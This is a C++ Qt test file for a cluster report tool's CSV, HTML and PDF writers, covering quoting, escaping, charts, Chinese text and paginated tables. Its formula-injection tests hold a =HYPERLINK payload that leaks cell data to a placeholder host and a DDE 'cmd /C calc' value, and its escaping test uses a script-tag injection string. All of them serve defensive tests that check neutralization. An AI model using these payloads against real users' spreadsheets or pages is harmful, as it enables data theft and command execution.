// The three writers on the paper snapshot: the CSV reads back (quoting, UTF-8, full precision),
// the HTML is one well-formed file with its SVG charts, and the PDF, read back by poppler, has
// the cover, the sections, page numbers, Chinese text and tables whose header repeats on every
// page they continue on. Runs under the offscreen platform (QGuiApplication, no display).
#include "backend/report/csv_writer.h"
#include "backend/report/html_writer.h"
#include "backend/report/pdf_writer.h"
#include "backend/report/report_builder.h"
#include "tests/backend/report/csv_reader.h"
#include "tests/backend/report/pdf_tools.h"
#include "tests/backend/report/report_fixture.h"

#include <QFile>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>
#include <QXmlStreamReader>

using namespace sn::report;

namespace {

ReportData paperReport()
{
    auto data = buildReport(sn::test::paperSnapshot());
    if (!data)
        qFatal("%s", data.error().message.c_str());
    return *data;
}

QByteArray readAll(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

} // namespace

class TestReportWriters : public QObject {
    Q_OBJECT
private slots:
    void csvQuotesWhatNeedsIt_data()
    {
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("written");
        QTest::newRow("plain") << "node01"
                               << "node01";
        QTest::newRow("comma") << "a,b"
                               << "\"a,b\"";
        QTest::newRow("quote") << "say \"hi\""
                               << "\"say \"\"hi\"\"\"";
        QTest::newRow("line end") << "two\nlines"
                                  << "\"two\nlines\"";
        QTest::newRow("chinese") << "张伟"
                                 << "张伟";
    }

    void csvQuotesWhatNeedsIt()
    {
        QFETCH(QString, field);
        QFETCH(QString, written);
        Table t{"t", "T", {"Name", "Value"}, {{textCell(field.toStdString()), numberCell(1.0 / 3, 1)}}};
        const std::string csv = toCsv(t);
        QCOMPARE(QString::fromStdString(csv), "Name,Value\r\n" + written + ",0.333333333333333\r\n");
        const auto doc = sn::test::readCsv(QByteArray::fromStdString(csv));
        QVERIFY2(doc.error.isEmpty(), qPrintable(doc.error));
        QCOMPARE(doc.rows[1][0], field);
    }

    // Text a spreadsheet would run as a formula is led by an apostrophe (issue 29: a job named
    // =HYPERLINK(...) ran in whoever opened the report); numbers, negative ones too, stay numbers.
    void csvNeutralizesFormulas_data()
    {
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("written");
        QTest::newRow("equals") << "=HYPERLINK(\"http://x/?\"&A1,\"x\")"
                                << "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\"";
        QTest::newRow("plus") << "+1+cmd|' /C calc'!A0"
                              << "'+1+cmd|' /C calc'!A0";
        QTest::newRow("minus") << "-2+3"
                               << "'-2+3";
        QTest::newRow("at") << "@SUM(A1:A9)"
                            << "'@SUM(A1:A9)";
        QTest::newRow("tab") << "\t=1"
                             << "'\t=1";
        QTest::newRow("carriage return") << "\r=1"
                                         << "\"'\r=1\"";
        QTest::newRow("inside is fine") << "a=b"
                                        << "a=b";
    }
    void csvNeutralizesFormulas()
    {
        QFETCH(QString, field);
        QFETCH(QString, written);
        Table t{"t", "T", {"Name", "Value"}, {{textCell(field.toStdString()), numberCell(-2.5, 1)}}};
        QCOMPARE(QString::fromStdString(toCsv(t)), "Name,Value\r\n" + written + ",-2.5\r\n");
    }

    void csvReaderRefusesMalformedInput_data()
    {
        QTest::addColumn<QByteArray>("csv");
        QTest::addColumn<QString>("error");
        QTest::newRow("bare LF") << QByteArray("a,b\nc,d\r\n") << "line 1: a bare line end";
        QTest::newRow("stray quote") << QByteArray("a,b\r\nc\"x,d\r\n") << "line 2: a quote inside an unquoted field";
        QTest::newRow("open quote") << QByteArray("a,b\r\n\"c,d\r\n") << "unterminated quoted field";
        QTest::newRow("ragged") << QByteArray("a,b\r\nc\r\n") << "a row of 1 fields under a header of 2";
        QTest::newRow("latin-1") << QByteArray("a,\xe9\r\n") << "not UTF-8";
    }

    void csvReaderRefusesMalformedInput()
    {
        QFETCH(QByteArray, csv);
        QFETCH(QString, error);
        QVERIFY2(sn::test::readCsv(csv).error.contains(error), qPrintable(sn::test::readCsv(csv).error));
    }

    void csvFolderHasOneFilePerTable()
    {
        QTemporaryDir dir;
        const ReportData data = paperReport();
        auto files = writeCsvFolder(data, dir.filePath("csv"));
        QVERIFY2(files, files ? "" : files.error().message.c_str());
        int tables = 0;
        for (const Section &s : data.sections)
            tables += int(s.tables.size());
        QCOMPARE(files->size(), tables);
        const auto kpis = sn::test::readCsv(readAll(dir.filePath("csv/kpis.csv")));
        QVERIFY2(kpis.error.isEmpty(), qPrintable(kpis.error));
        QCOMPARE(kpis.rows.front(), QStringList({"KPI", "Value", "Unit"}));
        QCOMPARE(sn::test::csvValue(kpis, "GPU-hours allocated", "Value").value_or("?"), "8.6");
        const auto users = sn::test::readCsv(readAll(dir.filePath("csv/utilization_by_user.csv")));
        QCOMPARE(sn::test::csvValue(users, "张伟", "GPU-hours used").value_or("?"), "2.5");
        // Only the chosen sections.
        auto some = writeCsvFolder(data, dir.filePath("some"), {"jobs"});
        QVERIFY(some);
        QCOMPARE(some->size(), 2); // job_states, jobs
    }

    void htmlIsOneWellFormedFileWithCharts()
    {
        const ReportData data = paperReport();
        const std::string html = toHtml(data);
        QXmlStreamReader xml(QByteArray::fromStdString(html));
        int svgs = 0, polylines = 0, tables = 0, sections = 0;
        QStringList external;
        while (!xml.atEnd()) {
            xml.readNext();
            if (!xml.isStartElement())
                continue;
            svgs += xml.name() == u"svg";
            polylines += xml.name() == u"polyline";
            tables += xml.name() == u"table";
            sections += xml.name() == u"section";
            for (const char *attribute : {"src", "href"})
                if (xml.attributes().hasAttribute(attribute))
                    external << xml.attributes().value(attribute).toString();
        }
        QVERIFY2(!xml.hasError(),
                 qPrintable(QStringLiteral("line %1: %2").arg(xml.lineNumber()).arg(xml.errorString())));
        QCOMPARE(sections, int(data.sections.size()));
        QCOMPARE(svgs, 3);      // node utilization, temperature, power
        QCOMPARE(polylines, 6); // one per node in each
        QVERIFY(tables >= 15);
        QVERIFY2(external.isEmpty(), qPrintable(external.join(' '))); // self-contained
        QVERIFY(html.find("华东超节点") != std::string::npos);
        QVERIFY(html.find("Simulated cluster") != std::string::npos);
        // Escaped: a job name with markup stays text.
        ReportData tricky = data;
        tricky.clusterName = "<script>alert(1)</script> & co";
        const std::string escaped = toHtml(tricky, {"kpis"});
        QVERIFY(escaped.find("<script>") == std::string::npos);
        QVERIFY(escaped.find("&lt;script&gt;alert(1)&lt;/script&gt; &amp; co") != std::string::npos);
        QVERIFY(escaped.find("<section id=\"jobs\"") == std::string::npos); // toggled off
    }

    void pdfReadsBackWithCoverSectionsAndChinese()
    {
        QTemporaryDir dir;
        const QString pdf = dir.filePath("report.pdf");
        const ReportData data = paperReport();
        QVERIFY(writePdf(data, pdf));
        QVERIFY(!QFile::exists(pdf + ".part"));
        const QString cover = sn::test::pdfText(pdf, 1);
        QVERIFY2(cover.contains("华东超节点"), qPrintable(cover));
        QVERIFY(cover.contains("2026-01-01 00:00 UTC to 2026-01-01 04:00 UTC"));
        QVERIFY(cover.contains("Page 1"));
        const QString all = sn::test::pdfText(pdf);
        for (const Section &s : data.sections)
            QVERIFY2(all.contains(QString::fromStdString(s.title)), s.title.c_str());
        QVERIFY(all.contains("GPU-hours allocated"));
        QVERIFY(all.contains("8.6"));
        QVERIFY(all.contains("张伟"));
        const int pages = sn::test::pdfPages(pdf);
        QVERIFY(pages >= 2);
        QVERIFY(all.contains(QStringLiteral("Page %1").arg(pages)));
        for (int page = 1; page <= pages; ++page) {
            const double ink = sn::test::pdfInkShare(pdf, page, dir.path());
            QVERIFY2(ink > 0.002, qPrintable(QStringLiteral("page %1: ink %2").arg(page).arg(ink)));
        }
    }

    void pdfTableRepeatsItsHeaderOnEveryPage()
    {
        ReportData data = paperReport();
        Table *jobs = nullptr;
        for (Section &s : data.sections)
            for (Table &t : s.tables)
                jobs = t.id == "jobs" ? &t : jobs;
        QVERIFY(jobs);
        const auto row = jobs->rows.front();
        for (int i = 0; i < 300; ++i) {
            jobs->rows.push_back(row);
            jobs->rows.back()[0] = textCell("job-" + std::to_string(i));
        }
        QTemporaryDir dir;
        const QString pdf = dir.filePath("long.pdf");
        QVERIFY(writePdf(data, pdf, {{"jobs"}, {}}));
        const int pages = sn::test::pdfPages(pdf);
        QVERIFY2(pages >= 5, qPrintable(QString::number(pages))); // cover + 300 rows at ~55 a page
        int withHeader = 0;
        for (int page = 2; page <= pages; ++page) {
            const QString text = sn::test::pdfText(pdf, page);
            QVERIFY(text.contains(QStringLiteral("Page %1").arg(page)));
            // Headers wrap (pdftotext prints each line apart): look for single words of them.
            QVERIFY2(text.contains("Priority") && text.contains("Submitted") && text.contains("allocated"),
                     qPrintable(text));
            ++withHeader;
        }
        QCOMPARE(withHeader, pages - 1);
        QVERIFY(sn::test::pdfText(pdf).contains("job-299"));
        QVERIFY(!sn::test::pdfText(pdf).contains("Recommendations")); // toggled off
    }

    void pdfCancelledLeavesNoFile()
    {
        QTemporaryDir dir;
        const QString pdf = dir.filePath("cancelled.pdf");
        int calls = 0;
        auto status = writePdf(paperReport(), pdf, {{}, [&](int) { return ++calls < 3; }});
        QVERIFY(!status);
        QCOMPARE(status.error().message, std::string("cancelled"));
        QVERIFY(!QFile::exists(pdf));
        QVERIFY(!QFile::exists(pdf + ".part"));
    }
};

QTEST_MAIN(TestReportWriters)
#include "tst_report_writers.moc"
